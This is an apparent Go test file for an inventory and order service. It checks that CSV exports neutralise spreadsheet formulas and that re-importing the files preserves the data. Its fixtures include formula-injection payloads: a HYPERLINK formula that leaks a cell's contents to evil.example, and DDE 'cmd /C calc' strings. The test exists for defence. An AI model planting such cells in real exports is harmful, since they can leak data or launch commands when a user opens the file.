package web_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"reflect"
	"strings"
	"testing"

	"switchyard/app"
	"switchyard/app/imports"
	"switchyard/web/webtest"
)

// Values a spreadsheet would run as formulas, and one already quoted.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`'=already quoted`,
	`  =1+1`,
}

// isPlainCell reports whether cell is a number or phone number: digits,
// spaces and + - ( ) . only, with a digit.
func isPlainCell(cell string) bool {
	return strings.ContainsAny(cell, "0123456789") && strings.Trim(cell, "0123456789 +-().") == ""
}

// formulaCell reports whether a spreadsheet would read cell as a formula.
func formulaCell(cell string) bool {
	rest := strings.TrimLeft(cell, " ")
	return rest != "" && strings.ContainsRune("=+-@\t\r\n", rune(rest[0])) && !isPlainCell(cell)
}

// hostileNetwork creates, through the API, a channel, locations, SKUs, stock
// and orders whose text holds formulas.
func hostileNetwork(t *testing.T, env *webtest.Env) {
	t.Helper()
	key := env.APIKey("", "catalog:write", "stock:write", "orders:write")
	put := func(path string, v any) {
		t.Helper()
		body, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		if status, out := env.API(http.MethodPut, path, key, string(body)); status != http.StatusCreated && status != http.StatusOK {
			t.Fatalf("PUT %s = %d %s", path, status, out)
		}
	}
	put("/api/v1/channels/web-eu", map[string]any{"name": hostileCells[0], "kind": "api"})
	for i, h := range hostileCells {
		code := "LOC-" + string(rune('A'+i))
		put("/api/v1/locations/"+code, map[string]any{
			"name": h, "kind": "warehouse", "timezone": "Europe/Paris", "ships": true, "pickup": false,
			"address": map[string]any{"line1": h, "line2": h, "city": h, "region": h, "postal_code": "69002", "country": "FR"},
			"lat":     -45.5, "lon": -4.88, "rank": -3, "channels": []string{"web-eu"},
		})
		sku := "SKU-" + string(rune('A'+i))
		put("/api/v1/skus/"+sku, map[string]any{"name": h, "barcode": "-" + sku, "weight_grams": 120})
		put("/api/v1/stock/"+code+"/"+sku, map[string]any{"on_hand": 50, "safety_stock": 2})
		order := map[string]any{
			"channel": "web-eu", "external_id": h + " #" + sku, "channel_ref": h, "placed_at": "2026-11-26T10:00:00Z",
			"currency": "EUR", "customer": map[string]any{"email": "ana@example.com", "name": h, "phone": "+33 6 12 34 56 78"},
			"shipping_address": map[string]any{"name": h, "line1": h, "line2": h, "city": h, "region": h,
				"postal_code": "69002", "country": "FR", "phone": "+1 (555) 010-4477", "lat": 45.76, "lon": -4.83},
			"delivery": map[string]any{"method": "ship"},
			"lines":    []map[string]any{{"external_id": h, "sku": sku, "name": h, "quantity": 1, "unit_price": "19.90"}},
			"note":     h + "\nsecond line",
		}
		body, err := json.Marshal(order)
		if err != nil {
			t.Fatal(err)
		}
		if status, out := env.API(http.MethodPost, "/api/v1/orders", key, string(body)); status != http.StatusCreated {
			t.Fatalf("POST order = %d %s", status, out)
		}
	}
}

// exportRecords GETs an export and parses it.
func exportRecords(t *testing.T, c *webtest.Client, kind string) (string, [][]string) {
	t.Helper()
	res := c.Get("/exports/" + kind + ".csv")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export %s = %d\n%s", kind, res.StatusCode, res.Body)
	}
	recs, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatalf("export %s is not CSV: %v\n%s", kind, err, res.Body)
	}
	return res.Body, recs
}

func TestExportsNeutraliseFormulasAndImportReadsThemBack(t *testing.T) {
	env := webtest.New(t)
	hostileNetwork(t, env)
	ops, _ := env.SignedIn(app.RoleOps)

	fresh := webtest.New(t)
	if _, _, err := fresh.App.PutChannel(t.Context(), app.System, "web-eu", app.ChannelInput{Name: "Web EU", Kind: "api"}); err != nil {
		t.Fatal(err)
	}
	freshOps, _ := fresh.SignedIn(app.RoleOps)
	for _, kind := range []string{imports.CSVLocations, imports.CSVSKUs, imports.CSVStock, imports.CSVOrders} {
		body, recs := exportRecords(t, ops, kind)
		if len(recs) != len(hostileCells)+1 {
			t.Fatalf("%s export has %d records, want %d:\n%s", kind, len(recs), len(hostileCells)+1, body)
		}
		quoted := 0
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				if formulaCell(cell) {
					t.Errorf("%s export: column %s holds the formula %q", kind, recs[0][i], cell)
				}
				if strings.HasPrefix(cell, "'") {
					quoted++
				}
			}
		}
		if kind != imports.CSVStock && quoted == 0 {
			t.Errorf("%s export quoted no cell:\n%s", kind, body)
		}
		if kind == imports.CSVOrders && !strings.Contains(body, ",+33 6 12 34 56 78,") || kind == imports.CSVLocations && !strings.Contains(body, ",-45.5,-4.88,") {
			t.Errorf("%s export changed a phone number or a negative number:\n%s", kind, body)
		}

		job := startedJob(t, upload(t, fresh, freshOps, kind, kind+".csv", body))
		if done := pollJob(t, fresh, freshOps, job); !strings.Contains(done, `data-phase="done"`) {
			t.Fatalf("import of the %s export failed:\n%s", kind, done)
		}
		_, again := exportRecords(t, freshOps, kind)
		if !reflect.DeepEqual(again, recs) {
			t.Errorf("%s: the import did not read back what the export wrote:\nfirst  %q\nsecond %q", kind, recs, again)
		}
	}
	o, err := fresh.App.OrderByExternal(t.Context(), "web-eu", hostileCells[4]+" #SKU-E")
	if err != nil {
		t.Fatalf("the order with a quoted external id was not read back exactly: %v", err)
	}
	if o.Customer.Name != hostileCells[4] {
		t.Errorf("customer name read back as %q, want %q", o.Customer.Name, hostileCells[4])
	}
}
